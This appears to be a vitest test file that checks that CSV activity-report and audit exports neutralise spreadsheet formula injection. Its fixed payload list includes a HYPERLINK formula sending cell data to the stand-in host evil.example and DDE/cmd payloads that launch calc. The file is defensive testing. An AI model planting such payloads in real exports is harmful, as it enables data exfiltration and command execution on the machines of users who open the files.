import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { auditCsv } from '../audit/export';
import { value } from '../test-support/seats-helpers';
import { coreWithEnterprise, fixedClock } from '../test-support/temp-db';
import { reportFigures } from './test-support/figures';

// Files Roster writes, under hostile text (issue 9, point 5): every cell a spreadsheet
// could run as a formula is written with a leading ', and everything else comes back as it went in.

/** What spreadsheets take as the start of a formula or command: ASCII and full-width forms, tab, carriage return. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** A cell as it must appear: the value, with a leading ' where it begins with a trigger. */
const neutralised = (text: string) => (TRIGGERS.some((trigger) => text.startsWith(trigger)) ? `'${text}` : text);

const FIXED = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '+1',
  '+44 20 7946 0000',
  '-1',
  '-2+3',
  '@SUM(A1:A9)',
  '@mention',
  '\t=1',
  '\r=1',
  '\r\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=multi\nline',
  'a\n=second line',
  '"=1"',
  '=1,2',
  'a"b',
  '""',
  'a,b',
  'line1\r\nline2',
  "'=already quoted",
  "'",
  ' =1',
  '%0A=1',
  '\u202E=1',
  '李小龍',
  'Ωmega, "quoted"',
  '🦄=1',
  '\uFEFF=1',
];

/** Random text behind a trigger (or not), seeded so a failure can be replayed. */
function corpus(): string[] {
  const random = fc.sample(
    fc.tuple(fc.constantFrom('', ...TRIGGERS), fc.string({ unit: 'grapheme', maxLength: 20 }), fc.constantFrom('', ',', '"', '\r\n', '\n')).map((parts) => parts.join('')),
    { numRuns: 200, seed: 4180 },
  );
  return [...FIXED, ...random].filter((text) => text.length > 0 && !text.includes('\u0000'));
}

/** Every cell of a CSV, parsed back by a strict RFC 4180 reader. */
function cells(content: string): string[][] {
  return parse(content, { bom: true, relax_quotes: false, relax_column_count: false, record_delimiter: '\r\n' }) as string[][];
}

const startsWithTrigger = (cell: string) => TRIGGERS.some((trigger) => cell.startsWith(trigger));

describe('CSV files under formula and quoting payloads', () => {
  it('the activity report: no cell starts with a trigger, every name round-trips', async () => {
    const core = await coreWithEnterprise({ now: fixedClock('2026-03-31T12:00:00.000Z').now });
    const texts = corpus();
    value(await core.invoke('seats:set', { seats: texts.length + 10 }));
    for (const [index, _text] of texts.entries()) value(await core.invoke('members:add', { email: `p${index}@acme.example`, name: `Person ${index}` }));
    // Names typed in are trimmed to one line; an import or SCIM may still bring odd ones, so they go straight in.
    const rename = core.db.prepare('UPDATE accounts SET name = ? WHERE email_key = ?');
    core.db.transaction(() => texts.forEach((text, index) => rename.run(text, `p${index}@acme.example`)))();
    const team = value(await core.invoke('teams:create', { name: '=Team+1', role: 'member' }));
    value(await core.invoke('teams:addMembers', { teamId: team.id, accountIds: [value(await core.invoke('members:find', { email: 'p0@acme.example' })).accountId] }));

    for (const bom of [true, false]) {
      const { content } = value(core.services.reports.csv({ bom }));
      const [header, ...rows] = cells(content);
      expect(header![0]).toBe('Email');
      expect(rows).toHaveLength(texts.length);
      const flagged = rows.flat().filter(startsWithTrigger);
      expect(flagged).toEqual([]);
      const byEmail = new Map(rows.map((row) => [row[0]!, row]));
      for (const [index, text] of texts.entries()) expect(byEmail.get(`p${index}@acme.example`)![1], JSON.stringify(text)).toBe(neutralised(text));
      expect(byEmail.get('p0@acme.example')![3]).toBe("'=Team+1");
    }
    reportFigures('csv-report', { surface: 'CSV (activity report)', tried: texts.length, accepted: 0, notes: { triggers: TRIGGERS.length } });
  });

  it('the audit export: no cell starts with a trigger, every actor, target and change round-trips', async () => {
    const core = await coreWithEnterprise({ now: fixedClock('2026-03-01T09:00:00.000Z').now });
    const texts = corpus();
    core.db.transaction(() =>
      texts.forEach((text, index) =>
        core.services.audit.record(new Date(Date.UTC(2026, 2, 1, 10, 0, 0, index)), { type: 'scim', name: text }, {
          action: 'org.rename',
          targetType: 'organization',
          targetId: index,
          targetLabel: text,
          before: { name: text },
          after: { name: `${text}!` },
        }),
      ),
    )();
    const { content, rows: count } = auditCsv(core.services.audit, { target: '' }, { bom: true, now: new Date('2026-03-02T00:00:00Z') });
    const [header, ...rows] = cells(content);
    expect(header).toEqual(['Time', 'Actor type', 'Actor', 'Action', 'Target type', 'Target', 'Target id', 'Before', 'After']);
    expect(rows).toHaveLength(count);
    expect(rows.flat().filter(startsWithTrigger)).toEqual([]);
    const ours = rows.filter((row) => row[3] === 'org.rename');
    expect(ours).toHaveLength(texts.length);
    for (const [index, text] of texts.entries()) {
      const row = ours[index]!;
      expect(row[2], JSON.stringify(text)).toBe(neutralised(text));
      expect(row[5]).toBe(neutralised(text));
      expect(row[6]).toBe(String(index));
      expect(JSON.parse(row[7]!)).toEqual({ name: text });
      expect(JSON.parse(row[8]!)).toEqual({ name: `${text}!` });
    }
    reportFigures('csv-audit', { surface: 'CSV (audit export)', tried: texts.length, accepted: 0, notes: { cellsPerPayload: 4 } });
  });
});
